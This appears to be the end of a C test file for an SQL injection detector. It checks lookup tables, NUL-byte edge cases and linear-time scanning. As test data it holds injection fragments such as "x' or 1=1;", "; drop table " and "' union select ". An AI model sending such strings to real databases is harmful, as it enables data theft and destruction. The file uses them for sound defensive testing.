	for (size_t i = 0; i < sizeof(calls) / sizeof(*calls); i++)
		bad += ew_sql_call_of(ew_bytes_str(calls[i])) == EW_SQL_CALL_NONE;
	is_int(bad, 0, "each function is known");
	bad = 0;
	for (size_t i = 0; i < sizeof(catalogues) / sizeof(*catalogues); i++) {
		char name[64];
		snprintf(name, sizeof(name), "%s.x", catalogues[i]);
		bad += !ew_sql_is_catalogue(ew_bytes_str(name));
	}
	is_int(bad, 0, "each catalogue is known");
}

/* A comment that ends with the text, in the way that only a text with a NUL can have. */
static void nul_ends_the_statement(struct analysed *t)
{
	t->wrong = NULL;
	ok(analysed_ask(t, EW_LIT("x' or 1=1;\0' and")) && t->found, "a NUL behind a semicolon");
	ok(analysed_ask(t, EW_LIT("1;\0 or")) && !t->found, "alone it is nothing");
	ok(analysed_ask(t, EW_LIT("'\0or\0" "1=1")) && t->found, "a NUL for a blank");
}

/* A mebibyte of pieces that make an analyser begin again: were time not linear, this would take minutes. */
static void time_is_linear(struct analysed *t)
{
	static const char *const pieces[] = {
		"'", "\"", "`", "]", "\\'", "''", "' ", "'or", "' or '", "(", "((select ", "/*", "/**/",
		"/*!", "*/", "--", "--\n", "#\n", "-", "1", "1 or ", "or 1=", "a ", "a.", "$$", "$a$",
		"q'[", "[", "[a]", "@", "{a ", ";", "; drop table ", "' union select ", "select a, ",
		"a, ", "',", "'||", "0x", "1e", "\xa0", "\xc2\xa0", "\xff", "case when ", "union ",
		"' '' ", "\\", "/",
	};
	static uint8_t text[1 << 20];
	size_t wrong = 0;

	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
		for (int quote = 0; quote < 2; quote++) {
			struct ew_finding f = { 0, 0, NULL };
			size_t n = strlen(pieces[i]);
			for (size_t at = 0; at < sizeof(text); at += n)
				memcpy(text + at, pieces[i], n < sizeof(text) - at ? n : sizeof(text) - at);
			if (quote)
				text[0] = '\'';
			t->o.text = ew_bytes(text, sizeof(text));
			wrong += t->a->find(&t->o, &f) && (f.from >= f.to || f.to > sizeof(text));
		}
	is_int(wrong, 0, "a mebibyte of any piece is read to its end");
}

int main(void)
{
	struct analysed t = analysed_begin(&ew_analyser_sqli);

	tables_are_sorted();
	analysed_all(&t, found, true);
	nul_ends_the_statement(&t);
	time_is_linear(&t);
	analysed_end(&t);
	return done();
}
